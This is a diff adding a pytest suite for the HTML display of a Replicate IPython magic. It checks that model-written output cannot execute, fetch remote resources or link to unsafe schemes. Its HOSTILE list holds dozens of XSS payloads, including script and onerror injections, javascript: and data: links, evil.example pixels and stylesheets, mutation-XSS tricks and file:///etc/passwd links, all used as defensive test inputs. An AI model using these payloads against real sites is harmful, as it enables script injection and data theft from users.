@@ -1,0 +1,560 @@
+"""The rich view: the bundles it leaves, and that nothing a model wrote can act in them."""
+
+from __future__ import annotations
+
+import base64
+import html
+import json
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from IPython.core.interactiveshell import InteractiveShell
+from IPython.utils.capture import capture_output
+from traitlets.config import Config
+
+from replicate_magic.api.files import PREVIEW_BYTES
+from replicate_magic.prediction import Chunks, OutputFile, Prediction, Retry
+from replicate_magic.views import Answer, Look
+from replicate_magic.views.html import (
+    MARKDOWN_CHARS,
+    TAIL_CHARS,
+    RichView,
+    answer_bundle,
+    final_bundles,
+)
+
+PNG = b"\x89PNG\r\n\x1a\n" + bytes(8)
+OURS = {"text/plain", "text/html", "image/png", "image/jpeg"}
+FORMATS = ("auto", "markdown", "text", "json", "html", "image")
+
+
+def prediction(output=None, *, status="succeeded", shape=None, streamed=(), files=(), **raw):
+    return Prediction(
+        model=raw.pop("model", "a/b"),
+        shape="files" if files else shape,
+        streamed=Chunks(list(streamed)),
+        downloaded=tuple(files),
+        raw={
+            "id": "abc",
+            "status": status,
+            "output": [file.url for file in files] or output,
+            **raw,
+        },
+    )
+
+
+def final(found, made=None, **look):
+    """The only bundle that stays."""
+    (bundle,) = final_bundles(found, made, Look(**look))
+    return bundle
+
+
+@pytest.fixture
+def displayed(tmp_path, monkeypatch):
+    """What a shell's front end has received."""
+    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
+    fresh = not InteractiveShell.initialized()
+    shell = InteractiveShell.instance(config=Config(HistoryManager={"enabled": False}))
+    with capture_output() as captured:
+        yield lambda: captured.outputs
+    if fresh:
+        shell.restore_sys_module_state()
+        InteractiveShell.clear_instance()
+
+
+# -- what acts in a page ----------------------------------------------------------------------
+
+
+class Page(HTMLParser):
+    """Collects the elements of a fragment, and its text."""
+
+    def __init__(self, markup):
+        super().__init__()
+        self.elements = []
+        self.words = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        self.words.append(data)
+
+    @property
+    def text(self):
+        return "".join(self.words)
+
+
+QUIET_TAGS = {
+    *("div", "pre", "p", "span", "a", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "b", "i"),
+    *("strong", "em", "s", "code", "blockquote", "ul", "ol", "li", "table", "thead", "tbody"),
+    *("tr", "td", "th", "sub", "sup", "u", "del", "ins", "kbd", "details", "summary", "img"),
+}
+QUIET_ATTRIBUTES = {"href", "rel", "target", "style", "src", "alt", "title", "start", "align"}
+
+
+def assert_nothing_acts(markup, pictures=0):
+    """No element, attribute or address that runs, styles, submits or fetches."""
+    page = Page(markup)
+    shown = [attrs for tag, attrs in page.elements if tag == "img"]
+    assert {tag for tag, _ in page.elements} <= QUIET_TAGS
+    assert len(shown) == pictures
+    for tag, attrs in page.elements:
+        assert set(attrs) <= QUIET_ATTRIBUTES
+        if "style" in attrs:
+            assert tag in {"div", "pre", "img"}
+            assert "url" not in attrs["style"]
+        if "src" in attrs:
+            assert tag == "img"
+            assert attrs["src"].startswith(("data:image/webp;base64,", "data:image/gif;base64,",
+                                            "data:image/png;base64,"))  # fmt: skip
+        if "href" in attrs:
+            assert urlsplit(attrs["href"]).scheme in {"http", "https", "mailto", ""}
+            assert "noopener" in attrs["rel"]
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<img src=x onerror="alert(1)">',
+    "<img src=https://evil.example/pixel.png>",
+    "![pixel](https://evil.example/pixel.png)",
+    "![pixel][p]\n\n[p]: https://evil.example/pixel.png",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](java\nscript:alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](data:image/png;base64,AAAA)",
+    "[click](vbscript:x) [click](file:///etc/passwd) [click](blob:x)",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java&#x0A;script:alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "<a href=https://x.example onclick=alert(1) style='position:fixed' id=x name=x>x</a>",
+    "<a href=https://x.example ping=https://evil.example download target=_top>x</a>",
+    "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
+    "<style>@import url(https://evil.example/x.css); * {display: none}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<div style='background:url(https://evil.example/x)' class=jp-mod x-on=y>x</div>",
+    "<form action=https://evil.example><input name=p autofocus onfocus=alert(1)><button>x</form>",
+    "<svg onload=alert(1)><use href='data:image/svg+xml,x#x'/><image href=https://evil.example/>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<object data=https://evil.example></object><embed src=https://evil.example>",
+    "<video src=https://evil.example poster=https://evil.example/p><source src=https://x></video>",
+    "<audio src=https://evil.example autoplay></audio><track src=https://evil.example>",
+    "<base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x",
+    "<body onload=alert(1)><marquee onstart=alert(1)>x<details ontoggle=alert(1) open>x",
+    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
+    "<textarea><script>alert(1)</script></textarea><plaintext><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]> <?xml x?>",
+    "</pre></div><script>alert(1)</script>",
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    '```js" onmouseover="alert(1)\nx\n```',
+    "`</code><script>alert(1)</script>`",
+    '[x](https://x.example "\\"><script>alert(1)</script>")',
+    '[x](https://x.example/"onmouseover=alert(1))',
+    r"$\href{javascript:alert(1)}{x}$ \(\href{javascript:alert(1)}{x}\)",
+    r"$$\style{background:url(https://evil.example)}{x} \class{a}{x} \cssId{a}{x}$$",
+    r"$\require{html}\unicode{<script>alert(1)</script>}$",
+    "<x-frame><custom-element onclick=alert(1)>",
+    "\x1b[2J\u202e<script\x00>alert(1)</script\x00>\ud83d",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<" * 1_000,
+    "<a href=x>" * 200,
+]  # fmt: skip
+many = pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+
+
+@many
+@pytest.mark.parametrize("form", FORMATS)
+@pytest.mark.parametrize("shape", ["chunks", "text", "json", "files", None])
+def test_no_answer_acts_in_the_page(text, form, shape):
+    output = {"chunks": [text[:9], text[9:]], "text": text, "files": [text], "json": {text: text}}
+    bundle = final(prediction(output.get(shape, text), shape=shape), format=form)
+
+    assert set(bundle) == {"text/plain", "text/html"}
+    assert_nothing_acts(bundle["text/html"])
+    json.dumps(bundle, ensure_ascii=False).encode()
+
+
+@many
+def test_no_growing_answer_acts_in_the_page(text, displayed):
+    view = RichView(Look(), live=True)
+    view.update(prediction(status="processing", shape="chunks", streamed=[text]))
+
+    (output,) = displayed()
+    assert_nothing_acts(output.data["text/html"])
+
+
+@many
+@pytest.mark.parametrize("form", FORMATS)
+def test_nothing_that_jq_made_acts_in_the_page(text, form):
+    for outputs in ((text,), (text, text), ({text: [text]},)):
+        bundle = final(prediction("x"), Answer(outputs=outputs), format=form)
+        assert_nothing_acts(bundle["text/html"])
+
+
+@many
+def test_no_other_word_acts_in_the_page(text):
+    found = prediction(
+        "x", model=text, status=text, error=text, logs=text, version=text, urls={"web": text}
+    )
+    for bundle in (final(found), answer_bundle(found)):
+        assert_nothing_acts(bundle["text/html"])
+    web = prediction("x", urls={"web": f"https://x/{text}"})
+    assert_nothing_acts(final(web)["text/html"])
+
+
+@many
+def test_no_file_acts_in_the_page(text):
+    files = [
+        OutputFile(url=text),
+        OutputFile(url=f"https://x/{text}", size_bytes=5, media_type=text),
+        OutputFile(url=f"https://y/{text}", size_bytes=5, media_type=text, preview=b"<svg/>"),
+        OutputFile(url=text, size_bytes=5, media_type="image/webp", preview=b"RIFF"),
+    ]
+    for form in FORMATS:
+        for bundle in final_bundles(prediction(files=files), None, Look(format=form)):
+            assert_nothing_acts(bundle["text/html"], pictures=bundle["text/html"].count("<img"))
+
+
+@pytest.mark.parametrize("page", [
+    "javascript:alert(1)", "data:text/html,x", "//evil.example", "http://evil.example", " https://x",
+])  # fmt: skip
+def test_only_a_page_on_https_is_linked(page):
+    assert "<a" not in final(prediction("x", urls={"web": page}))["text/html"]
+    assert "<a" in final(prediction("x", urls={"web": "https://replicate.com/p/1"}))["text/html"]
+
+
+# -- what is shown ----------------------------------------------------------------------------
+
+
+def test_an_answer_in_markdown_is_drawn_and_kept_as_text():
+    text = "# Title\n\n* **one** `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[x](https://x.example)"
+    bundle = final(prediction(text))
+
+    tags = [tag for tag, _ in Page(bundle["text/html"]).elements]
+    assert {"h1", "li", "strong", "code", "table", "td", "a"} <= set(tags)
+    assert bundle["text/plain"] == f"{text}\n\na/b · succeeded"
+
+
+@pytest.mark.parametrize(
+    "text", [r"$e^{i\pi} + 1 = 0$", r"\(x < y\)", "a_b_c * d * e", "5 > 3 & 2"]
+)
+def test_formulas_and_signs_stay_readable(text):
+    assert (
+        text.replace("\\(", "(").replace("\\)", ")")
+        in Page(final(prediction(text))["text/html"]).text
+    )
+
+
+@pytest.mark.parametrize(
+    ("form", "tag"), [("auto", "strong"), ("markdown", "strong"), ("text", "pre"), ("html", "b")]
+)
+def test_a_format_is_drawn_as_asked_for(form, tag):
+    markup = final(prediction("**one** <b>two</b>"), format=form)["text/html"]
+
+    assert tag in [tag for tag, _ in Page(markup).elements]
+
+
+@pytest.mark.parametrize("output", [{"a": [1, {"b": "<x>"}]}, [1, 2], 5, True, ["a", "b"], 0.5])
+def test_json_is_shown_with_its_structure(output):
+    pretty = json.dumps(output, indent=2)
+    bundle = final(prediction(output, shape="json"), status=False)
+
+    assert bundle["text/plain"] == pretty
+    assert Page(bundle["text/html"]).text == pretty
+    assert "<pre" in bundle["text/html"]
+
+
+def test_text_that_holds_json_is_pretty_where_json_is_asked_for():
+    bundle = final(prediction('{"a":1}'), format="json", status=False)
+
+    assert bundle["text/plain"] == '{\n  "a": 1\n}'
+
+
+def test_a_picture_in_markdown_is_a_link_that_is_not_fetched():
+    page = Page(final(prediction("![a cat](https://x.example/cat.png)"), status=False)["text/html"])
+
+    assert page.text.strip() == "!a cat"
+    assert [attrs["href"] for tag, attrs in page.elements if tag == "a"] == [
+        "https://x.example/cat.png"
+    ]
+
+
+def test_a_long_answer_is_escaped_and_no_markdown():
+    text = "**x** <b>\n" * 30_000
+    bundle = final(prediction(text))
+
+    assert len(text) > MARKDOWN_CHARS
+    assert "<strong>" not in bundle["text/html"]
+    assert html.escape(text) in bundle["text/html"]
+    assert bundle["text/plain"].startswith(text.rstrip("\n"))
+
+
+def test_a_failed_run_keeps_what_came_and_its_state():
+    found = prediction(status="failed", shape="chunks", streamed=["He"], error="no")
+
+    assert final(found)["text/plain"] == "He\n\na/b · failed"
+
+
+@pytest.mark.parametrize(
+    "found",
+    [
+        Prediction(model="a/b"),
+        prediction("x"),
+        prediction(""),
+        prediction(" \n\t"),
+        prediction("[a]: https://x.example"),
+        prediction(None, status="failed"),
+        prediction([], shape="files", status="succeeded"),
+        prediction({"a": 1}),
+        prediction(shape="chunks", status="processing", streamed=["x"]),
+        prediction(files=[OutputFile(url="https://x/1")]),
+        prediction(files=[OutputFile(url="https://x/1", media_type="image/png", preview=PNG)]),
+    ],
+    ids=range(11),
+)
+def test_there_is_always_a_readable_text_and_never_markdown(found):
+    looks = [Look(format=form, status=status) for form in FORMATS for status in (True, False)]
+    shown = [bundle for look in looks if look.status for bundle in final_bundles(found, None, look)]
+    for bundle in [*shown, answer_bundle(found)]:
+        assert bundle["text/plain"].strip()
+        assert set(bundle) <= OURS
+    for look in looks:
+        assert all(set(bundle) <= OURS for bundle in final_bundles(found, None, look))
+
+
+@pytest.mark.parametrize(
+    ("outputs", "text"),
+    [
+        ((), "jq gave no output: None"),
+        ((None,), "null"),
+        (("**x**",), "**x**"),
+        ((1, 2), "[\n  1,\n  2\n]"),
+    ],
+)
+def test_what_jq_made_is_shown_in_place_of_the_answer(outputs, text):
+    bundle = final(prediction("the answer"), Answer(outputs=outputs), status=False)
+
+    assert bundle["text/plain"] == text
+    assert "the answer" not in bundle["text/html"]
+
+
+def test_the_answer_or_the_state_can_be_left_out():
+    assert final(prediction("x"), answer=False)["text/plain"] == "a/b · succeeded"
+    assert final(prediction("x"), status=False)["text/plain"] == "x"
+    assert "succeeded" not in final(prediction("x"), status=False)["text/html"]
+
+
+# -- files ------------------------------------------------------------------------------------
+
+
+def picture(media_type, name="1", data=PNG):
+    return OutputFile(
+        url=f"https://x/{name}", media_type=media_type, size_bytes=len(data), preview=data
+    )
+
+
+@pytest.mark.parametrize("media_type", ["image/png", "image/jpeg"])
+def test_a_picture_every_tool_draws_is_sent_as_itself(media_type):
+    image, state = final_bundles(prediction(files=[picture(media_type)]), None, Look())
+
+    assert set(image) == {"text/plain", media_type}
+    assert base64.b64decode(image[media_type]) == PNG
+    assert image["text/plain"] == f"https://x/1 ({media_type}, 16 B)"
+    assert state["text/plain"] == "a/b · succeeded"
+
+
+@pytest.mark.parametrize("media_type", ["image/webp", "image/gif"])
+def test_another_picture_is_sent_within_html(media_type):
+    bundle = final(prediction(files=[picture(media_type)]), status=False)
+
+    source = f"data:{media_type};base64,{base64.b64encode(PNG).decode()}"
+    assert [attrs["src"] for _, attrs in Page(bundle["text/html"]).elements] == [source]
+    assert bundle["text/plain"] == f"https://x/1 ({media_type}, 16 B)"
+
+
+@pytest.mark.parametrize(
+    ("file", "label"),
+    [
+        (OutputFile(url="https://x/1"), "https://x/1"),
+        (OutputFile(url="https://x/1", size_bytes=PREVIEW_BYTES + 1), "https://x/1 (file, 5.0 MB)"),
+        (picture("image/svg+xml", data=b"<svg/>"), "https://x/1 (image/svg+xml, 6 B)"),
+        (picture("text/html", data=b"<p>"), "https://x/1 (text/html, 3 B)"),
+        (picture("application/octet-stream"), "https://x/1 (application/octet-stream, 16 B)"),
+        (OutputFile(url="https://x/a b\"'<>"), "https://x/a b\"'<>"),
+    ],
+)
+def test_any_other_file_is_a_link_with_what_is_known(file, label):
+    page = Page(final(prediction(files=[file]), status=False)["text/html"])
+
+    assert page.text == label
+    assert [attrs["href"] for tag, attrs in page.elements if tag == "a"] == [file.url]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        *(
+            "javascript:alert(1)",
+            "JAVASCRIPT:alert(1)",
+            "data:text/html,<script>",
+            "//x/1",
+            "x",
+            "",
+        ),
+        *("ftp://x/1", "file:///etc/passwd", "\x01https://x", " https://x/1"),
+    ],
+)
+def test_an_address_that_is_not_http_is_no_link(url):
+    page = Page(final(prediction(files=[OutputFile(url=url)]))["text/html"])
+
+    assert "a" not in [tag for tag, _ in page.elements]
+
+
+def test_a_long_data_url_is_cut():
+    file = OutputFile(url="data:video/mp4;base64," + "A" * 1_000_000, size_bytes=750_000)
+    bundle = final(prediction(files=[file]))
+
+    assert len(json.dumps(bundle)) < 2_000
+    assert "(file, 750 kB)" in bundle["text/plain"]
+
+
+def test_pictures_and_links_come_together():
+    files = [picture("image/png", "1"), OutputFile(url="https://x/2"), picture("image/webp", "3")]
+    first, second, rest = final_bundles(prediction(files=files), None, Look())
+
+    assert "image/png" in first
+    assert "data:image/webp" in second["text/html"]
+    assert rest["text/plain"].splitlines()[1] == "https://x/2"
+
+
+def test_a_prediction_shown_on_its_own_shows_all_its_pictures():
+    files = [picture("image/png", "1"), picture("image/webp", "2"), OutputFile(url="https://x/3")]
+    bundle = answer_bundle(prediction(files=files))
+
+    assert set(bundle) == {"text/plain", "text/html"}
+    assert [f"https://x/{n}" in bundle["text/plain"] for n in (1, 2, 3)] == [True] * 3
+    assert_nothing_acts(bundle["text/html"], pictures=2)
+    assert "https://x/3" in bundle["text/html"]
+
+
+def test_one_picture_shown_on_its_own_is_itself():
+    assert set(answer_bundle(prediction(files=[picture("image/png")]))) == {
+        "text/plain",
+        "image/png",
+    }
+
+
+@pytest.mark.parametrize("form", ["text", "json", "markdown", "html"])
+def test_a_picture_is_not_drawn_where_text_is_asked_for(form):
+    bundle = final(prediction(files=[picture("image/png")]), format=form)
+
+    assert "https://x/1" in bundle["text/plain"]
+    assert_nothing_acts(bundle["text/html"])
+
+
+def test_ipython_shows_a_prediction_by_its_own_methods():
+    found = prediction("**x**")
+
+    assert found._repr_mimebundle_(include=None, exclude=None) == answer_bundle(found)
+    assert answer_bundle(found)["text/plain"] == "**x**"
+    assert answer_bundle(prediction(status="failed"))["text/plain"].endswith("a/b · failed")
+
+
+# -- while it grows ---------------------------------------------------------------------------
+
+
+def test_one_display_is_updated_and_ends_as_it_stays(displayed):
+    view = RichView(Look(), live=True)
+    view.update(prediction(status="processing", shape="chunks", streamed=["**He"]))
+    view.update(prediction(status="processing", shape="chunks", streamed=["**He", "y**"]))
+    view.close(prediction(["**Hey**"], shape="chunks"))
+
+    first, second, last = displayed()
+    assert [bool(output.update) for output in (first, second, last)] == [False, True, True]
+    assert len({output.transient["display_id"] for output in (first, second, last)}) == 1
+    assert Page(second.data["text/html"]).text == "**Hey**a/b · streaming"
+    assert last.data == final(prediction(["**Hey**"], shape="chunks"))
+
+
+def test_where_nobody_watches_there_is_one_display(displayed):
+    view = RichView(Look(), live=False)
+    view.update(prediction(status="processing", streamed=["x"]))
+    view.close(prediction("x"))
+
+    (output,) = displayed()
+    assert output.data == final(prediction("x"))
+
+
+def test_a_run_that_was_never_created_leaves_nothing(displayed):
+    view = RichView(Look(), live=True)
+    view.close(None)
+    assert displayed() == []
+
+    view.update(Prediction(model="a/b"))
+    view.close(None)
+    assert displayed()[-1].data == {"text/plain": "", "text/html": ""}
+
+
+def test_further_pictures_are_displays_of_their_own(displayed):
+    view = RichView(Look(), live=True)
+    view.update(prediction(status="processing", shape="files"))
+    view.close(prediction(files=[picture("image/png", "1"), picture("image/png", "2")]))
+
+    _, first, second, state = displayed()
+    assert first.update
+    assert "image/png" in first.data
+    assert "image/png" in second.data
+    assert state.data["text/plain"] == "a/b · succeeded"
+
+
+@pytest.mark.parametrize(
+    "found",
+    [
+        prediction(status="processing", shape="chunks", streamed=["<&\"'\x1b"] * 200_000),
+        prediction(status="processing", shape="chunks", streamed=["&" * 5_000_000]),
+        prediction("&" * 5_000_000, status="processing", shape="text"),
+        prediction(["&" * 9] * 100_000, status="processing", shape="chunks"),
+        prediction({"a": "&" * 5_000_000}, status="processing", shape="json"),
+        Prediction(model="m" * 99_999, retry=Retry(reason="&" * 5_000_000, delay_s=1, at_s=0)),
+    ],
+    ids=range(6),
+)
+def test_a_growing_bundle_is_bounded_in_size(found, displayed):
+    RichView(Look(), live=True).update(found)
+
+    (output,) = displayed()
+    assert len(json.dumps(output.data)) < 10 * TAIL_CHARS
+    assert_nothing_acts(output.data["text/html"])
+
+
+def test_a_growing_answer_shows_its_end(displayed):
+    chunks = [f"word{n} " for n in range(10_000)]
+    RichView(Look(), live=True).update(
+        prediction(status="processing", shape="chunks", streamed=chunks)
+    )
+
+    (output,) = displayed()
+    text = Page(output.data["text/html"]).text
+    assert text.startswith("…")
+    assert "word9999 a/b · streaming" in text
+    assert "word100 " not in text
+
+
+@pytest.mark.parametrize("shape", ["file", "files", "json"])
+def test_what_is_no_text_does_not_grow(shape, displayed):
+    RichView(Look(), live=True).update(
+        prediction(status="processing", shape=shape, streamed=["https://x/1"])
+    )
+
+    assert displayed()[0].data["text/plain"] == "a/b · streaming"
